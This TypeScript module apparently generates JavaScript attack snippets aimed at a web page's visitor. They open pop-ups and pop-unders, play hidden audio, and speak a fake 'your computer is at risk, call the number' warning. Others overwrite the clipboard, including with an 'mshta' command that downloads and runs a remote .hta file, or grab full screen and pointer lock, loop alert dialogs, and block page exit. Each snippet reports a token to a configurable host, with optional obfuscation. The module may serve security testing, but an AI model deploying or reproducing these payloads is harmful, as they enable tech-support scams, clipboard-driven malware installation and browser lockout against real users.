import { spelled } from './obfuscation.ts'
import { framedOnly, type Snippet, type SnippetInput, snippet } from './snippet.ts'

/** Attacks on the reader's screen, speakers, clipboard and dialogs. */

const address = ({ host, token, obfuscation }: SnippetInput, path: string) =>
  spelled(`https://${host}/${path}?s=${token}`, obfuscation)

export const popUp = {
  'pop-up': (input: SnippetInput): Snippet =>
    snippet(`top.document.addEventListener('mousedown',function(){open(u,'_blank')},{once:true})`, (match) =>
      framedOnly(`var u=${address(input, 'pop')};try{${match}}catch(e){}`),
    ),
  'pop-under': (input: SnippetInput): Snippet =>
    snippet(`var w=open(u,'_blank','width=900,height=700');if(w){w.blur();top.focus()}`, (match) =>
      framedOnly(
        `var u=${address(input, 'under')};top.document.addEventListener('click',function(){${match}},{once:true});`,
      ),
    ),
}

export const autoplayAudio = {
  'audible-media': (input: SnippetInput): Snippet =>
    snippet(`v.muted=false;v.volume=1;v.play()`, (match) =>
      framedOnly(
        `var v=document.createElement('video');v.src=${address(input, 'spot.mp4')};v.style.width='1px';document.body.appendChild(v);setTimeout(function(){${match}},800);`,
      ),
    ),
  'web-audio': (input: SnippetInput): Snippet =>
    snippet(`o.connect(c.destination);o.frequency.value=880;o.start()`, (match) =>
      framedOnly(
        `var c=new AudioContext(),o=c.createOscillator(),j=${address(input, 'j')};document.addEventListener('pointerdown',function(){c.resume()});${match};new Image().src=j;`,
      ),
    ),
  speech: (input: SnippetInput): Snippet =>
    snippet(`speechSynthesis.speak(new SpeechSynthesisUtterance(t))`, (match) =>
      framedOnly(
        `var t='Warning. Your computer is at risk. Call the number on your screen.',n=${address(input, 'call')};${match};document.body.dataset.n=n;`,
      ),
    ),
}

export const clipboardHijack = {
  'clipboard-overwrite': (input: SnippetInput): Snippet =>
    snippet(`e.clipboardData.setData('text/plain',n);e.preventDefault()`, (match) =>
      framedOnly(
        `var n='${input.token}',y=${address(input, 'cb')};top.document.addEventListener('copy',function(e){${match};new Image().src=y},true);`,
      ),
    ),
  'command-to-clipboard': (input: SnippetInput): Snippet =>
    snippet(`navigator.clipboard.writeText('mshta '+u)`, (match) =>
      framedOnly(
        `var u=${address(input, 'verify.hta')};top.document.addEventListener('click',function(){${match}},{once:true});`,
      ),
    ),
}

export const fullScreenGrab = {
  'full-screen': (input: SnippetInput): Snippet =>
    snippet(`top.document.documentElement.requestFullscreen({navigationUI:'hide'})`, (match) =>
      framedOnly(
        `var u=${address(input, 'desk')};top.document.addEventListener('click',function(){${match};document.body.dataset.u=u},{once:true});`,
      ),
    ),
  'pointer-lock': (input: SnippetInput): Snippet =>
    snippet(`top.document.body.requestPointerLock({unadjustedMovement:true})`, (match) =>
      framedOnly(
        `var u=${address(input, 'lock')};top.document.addEventListener('mousedown',function(){${match};document.body.dataset.u=u});`,
      ),
    ),
}

export const dialogTrap = {
  'dialog-loop': (input: SnippetInput): Snippet =>
    snippet(`while(n++<40)alert('Your session is at risk. Do not close this page.')`, (match) =>
      framedOnly(`var n=0,u=${address(input, 'stay')};setTimeout(function(){${match};open(u,'_top')},1200);`),
    ),
  'leave-prompt': (input: SnippetInput): Snippet =>
    snippet(`top.onbeforeunload=function(e){e.preventDefault();return e.returnValue='Leave?'}`, (match) =>
      framedOnly(`var u=${address(input, 'exit')};try{${match}}catch(e){}document.body.dataset.u=u;`),
    ),
  'print-prompt': (input: SnippetInput): Snippet =>
    snippet(`setInterval(function(){top.print()},3000)`, (match) =>
      framedOnly(`var u=${address(input, 'p')};${match};document.body.dataset.u=u;`),
    ),
}
